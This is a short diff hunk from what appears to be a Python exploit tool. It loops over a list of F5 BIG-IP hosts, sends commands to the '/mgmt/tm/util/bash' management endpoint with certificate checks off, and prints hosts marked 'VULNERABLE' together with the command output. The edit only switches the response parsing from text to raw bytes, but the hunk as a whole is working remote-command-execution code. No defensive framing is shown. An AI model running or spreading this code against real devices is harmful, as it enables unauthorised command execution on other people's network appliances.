@@ -56,8 +56,9 @@ try:
         for f5_list in f5bigips_list:
             try:
                 response = requests.post(url=f"https://{f5_list}/mgmt/tm/util/bash", json=data, headers=headers, verify=False, timeout=5)
-                if response.status_code == 200 and 'commandResult' in response.text:
-                    default = json.loads(response.text)
+                # Work on the raw bytes; response.text re-decodes the body on every access
+                if response.status_code == 200 and b'commandResult' in response.content:
+                    default = json.loads(response.content)
                     display = default['commandResult']
                     print(f"{Fore.GREEN}VULNERABLE: {Fore.CYAN}https://{f5_list}")
                     print(f"{Fore.GREEN}RESULTS: {Fore.CYAN}{display}")